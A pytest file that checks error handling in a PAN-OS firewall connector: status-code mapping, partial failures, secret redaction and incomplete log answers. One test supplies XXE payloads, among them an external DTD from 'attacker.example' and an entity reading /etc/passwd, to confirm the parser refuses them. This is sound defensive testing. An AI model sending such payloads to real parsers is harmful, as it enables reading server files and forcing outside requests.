"""How PAN-OS's answers become errors."""

from typing import Any

import httpx
import pytest

from hikeshi.capabilities import Effect, Indicator
from hikeshi.connector import (
    Applied,
    Conflict,
    ConnectorError,
    Forbidden,
    Invalid,
    NotFound,
    PartialFailure,
    RateLimited,
    Secret,
    Timeout,
    Unauthorized,
    Unavailable,
    Unsupported,
)
from hikeshi.connector.door import Door, through
from hikeshi.connector.registry import build
from hikeshi.secrets import Redactor
from hikeshi_connectors.panos import PanOs

ADDRESSES = [Indicator(kind="ipv4", value=f"203.0.113.{n}") for n in (1, 2, 3)]
DOMAIN = Indicator(kind="domain", value="evil.example")


def panos(status: int, text: str, headers: dict[str, str] | None = None) -> PanOs:
    transport = httpx.MockTransport(lambda _: httpx.Response(status, text=text, headers=headers))
    given = {"base_url": "https://fw.example", "api_key": Secret.of_value("unit-test-key"), "admin": "svc"}
    connector = build(PanOs, "fw", given, Redactor(), transport=transport)
    assert isinstance(connector, PanOs)
    return connector


async def block(firewall: PanOs) -> None:
    with through(Door(mode="live", effect=Effect.CHANGE, action="firewall.block_indicators", intended=True)):
        await firewall.block_indicators(ADDRESSES, "c2", 60)


def error(code: str, text: str = "what the firewall says") -> str:
    return f'<response status="error" code="{code}"><msg><line>{text}</line></msg></response>'


INVALID_KEY = "<response status = 'error' code = '403'><result><msg>Invalid Credential</msg></result></response>"


@pytest.mark.parametrize(
    ("status", "text", "kind", "applied"),
    [
        (403, INVALID_KEY, Unauthorized, Applied.NO),
        (200, INVALID_KEY, Unauthorized, Applied.NO),
        (403, error("403", "Type [user-id] not authorized for user role."), Forbidden, Applied.NO),
        (200, error("16", "Unauthorized request"), Forbidden, Applied.NO),
        (200, error("22", "Session timed out"), Unauthorized, Applied.NO),
        (200, error("1"), Invalid, Applied.NO),
        (200, error("6"), Invalid, Applied.NO),
        (200, error("7"), NotFound, Applied.NO),
        (200, error("8"), Conflict, Applied.NO),
        (200, error("10"), Conflict, Applied.NO),
        (200, error("12"), Invalid, Applied.NO),
        (200, error("13"), Conflict, Applied.NO),
        (200, error("14"), Conflict, Applied.NO),
        (200, error("15"), Forbidden, Applied.NO),
        (200, error("17"), Invalid, Applied.NO),
        (200, error("18"), Invalid, Applied.NO),
        (400, error("400"), Invalid, Applied.NO),
        *((200, error(code), Unavailable, Applied.MAYBE) for code in ("2", "3", "4", "5", "11", "21")),
        (200, error("4711"), Invalid, Applied.MAYBE),
        (200, '<response status="error"><msg><line>what the firewall says</line></msg></response>', Invalid, "maybe"),
        (200, "<html><body>Please sign in</body></html>", Invalid, Applied.MAYBE),
        (200, "", Invalid, Applied.MAYBE),
        (200, '<response status="success">', Invalid, Applied.MAYBE),
        (404, "<html>no such page</html>", Invalid, Applied.NO),
        (401, "who are you?", Unauthorized, Applied.NO),
        (403, "forbidden by the proxy", Forbidden, Applied.NO),
        (408, "", Timeout, Applied.MAYBE),
        (502, "bad gateway", Unavailable, Applied.MAYBE),
        (504, "gateway timeout", Timeout, Applied.MAYBE),
    ],
)
async def test_every_error_has_its_class(status: int, text: str, kind: type[ConnectorError], applied: str):
    """The code decides, whatever the HTTP status; an unclear answer counts as possibly applied."""
    with pytest.raises(kind) as caught:
        await block(panos(status, text))
    assert type(caught.value) is kind
    assert caught.value.applied == applied
    assert "unit-test-key" not in str(caught.value)


async def test_the_firewalls_code_and_words_are_told():
    """The message says where, which code and what the firewall said."""
    nested = '<response status="error" code="12"><msg><line><line>list is\n invalid</line></line></msg></response>'
    with pytest.raises(Invalid, match=r"POST fw\.example/api/ answered 200, code 12: list is invalid$"):
        await block(panos(200, nested))


async def test_a_reached_rate_limit_has_its_delay():
    """PAN-OS has no documented limit, a proxy before it may have one."""
    with pytest.raises(RateLimited) as caught:
        await block(panos(429, "", {"Retry-After": "12"}))
    assert caught.value.retry_after_s == 12


def uid_answer(*entries: tuple[str, str], verb: str = "register") -> str:
    told = "".join(f'<entry ip="{ip}" message="{message}"/>' for ip, message in entries)
    return (
        '<response status="error"><msg><line><uid-response><version>2.0</version>'
        f"<payload><{verb}>{told}</{verb}></payload></uid-response></line></msg></response>"
    )


async def test_already_tagged_addresses_are_no_failure():
    """The firewall reports them as errors to be ignored."""
    await block(panos(200, uid_answer(("203.0.113.1", "tag hikeshi-blocked already exists, ignore"))))


async def test_addresses_without_the_tag_are_no_failure_to_unblock():
    """Taking off what is not there is reported the same way."""
    answer = uid_answer(("203.0.113.1", "ip 203.0.113.1 does not exist, ignore unreg"), verb="unregister")
    firewall = panos(200, answer)
    with through(Door(mode="live", effect=Effect.CHANGE, action="firewall.unblock_indicators", intended=True)):
        await firewall.unblock_indicators(ADDRESSES, "false alarm")


async def test_refused_addresses_are_named_singly():
    """Those that the answer does not name were accepted."""
    answer = uid_answer(
        ("203.0.113.1", "tag hikeshi-blocked already exists, ignore"), ("203.0.113.3", "max registered-ip reached")
    )
    with pytest.raises(PartialFailure) as caught:
        await block(panos(200, answer))
    assert list(caught.value.failures) == ["203.0.113.3"]
    assert "max registered-ip reached" in caught.value.failures["203.0.113.3"].message
    assert caught.value.failures["203.0.113.3"].applied is Applied.NO


async def test_a_refusal_of_something_unknown_is_not_swallowed():
    """An entry that names no address of ours says nothing about which ones were accepted."""
    with pytest.raises(Invalid, match="out of memory") as caught:
        await block(panos(200, uid_answer(("", "out of memory"))))
    assert caught.value.applied is Applied.MAYBE


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE response [<!ENTITY a "x">]><response status="success"><result>&a;</result></response>',
        '<!DOCTYPE response SYSTEM "http://attacker.example/x.dtd"><response status="success"><result/></response>',
        "<?xml version='1.0'?><!DOCTYPE response [<!ENTITY % p SYSTEM 'file:///etc/passwd'>%p;]>"
        '<response status="success"/>',
    ],
)
async def test_answers_with_a_document_type_are_refused(text: str):
    """Entities are never expanded, inside or from outside."""
    with pytest.raises(Invalid, match="not PAN-OS's XML"):
        await panos(200, text).blocks_of(ADDRESSES)


@pytest.mark.parametrize(
    "answer",
    [
        '<response status="success"/>',
        '<response status="success"><result><msg><line><outfile>/tmp/x</outfile></line></msg></result></response>',
    ],
)
@pytest.mark.parametrize("indicator", [ADDRESSES[0], DOMAIN])
async def test_an_answer_without_a_result_does_not_mean_not_blocked(answer: str, indicator: Indicator):
    """Could not read is never is absent."""
    with pytest.raises(Invalid, match="without a result"):
        await panos(200, answer).blocks_of([indicator])


@pytest.mark.parametrize(
    "answer",
    [
        '<response status="error"><msg><line>No such node</line></msg></response>',
        error("7", "Object not present"),
        '<response status="success" code="7"><result/></response>',
    ],
)
async def test_a_category_that_does_not_exist_blocks_nothing(answer: str):
    """The three ways in which the firewall says that there is no such category."""
    [state] = await panos(200, answer).blocks_of([DOMAIN])
    assert not state.blocked


async def test_a_foreign_404_does_not_mean_not_blocked():
    """A wrong base address is an error, not an empty firewall."""
    with pytest.raises(Invalid):
        await panos(404, "<html>nginx</html>").blocks_of([DOMAIN])


async def test_a_category_of_categories_is_not_taken_for_a_list():
    """Its members are names of categories, so a site among them would mean something else."""
    answer = (
        '<response status="success"><result><entry name="hikeshi-blocked"><type>Category Match</type></entry>'
        "</result></response>"
    )
    with pytest.raises(Unsupported, match="lists categories"):
        await panos(200, answer).blocks_of([DOMAIN])


@pytest.mark.parametrize(
    ("entry", "reason"),
    [
        ("<entry><src>10.0.0.1</src><dst>203.0.113.1</dst><time_generated>yesterday</time_generated></entry>", "time"),
        ("<entry><src>10.0.0.1</src><time_generated>2026/07/01 10:00:00</time_generated></entry>", "addresses"),
    ],
)
async def test_a_log_entry_without_its_essentials_is_an_error(entry: str, reason: str):
    """A line of the log is not dropped in silence."""
    answers: Any = iter(
        [
            '<response status="success"><result><job>1</job></result></response>',
            '<response status="success"><result><job><status>FIN</status></job><log><logs>'
            f"{entry}</logs></log></result></response>",
        ]
    )
    transport = httpx.MockTransport(lambda _: httpx.Response(200, text=next(answers)))
    given = {"base_url": "https://fw.example", "api_key": Secret.of_value("unit-test-key")}
    firewall = build(PanOs, "fw", given, Redactor(), transport=transport)
    assert isinstance(firewall, PanOs)
    with pytest.raises(Invalid, match=reason):
        await firewall.search_traffic("203.0.113.1")


@pytest.mark.parametrize(
    "text",
    [
        '<response status="success"><result><job>none</job></result></response>',
        '<response status="success"><result><job><status>FIN</status></job></result></response>',
    ],
)
async def test_a_log_query_without_job_or_logs_is_an_error(text: str):
    """An answer without what was asked for does not mean that there was no traffic."""
    with pytest.raises(Invalid, match="without"):
        await panos(200, text).search_traffic("203.0.113.1")
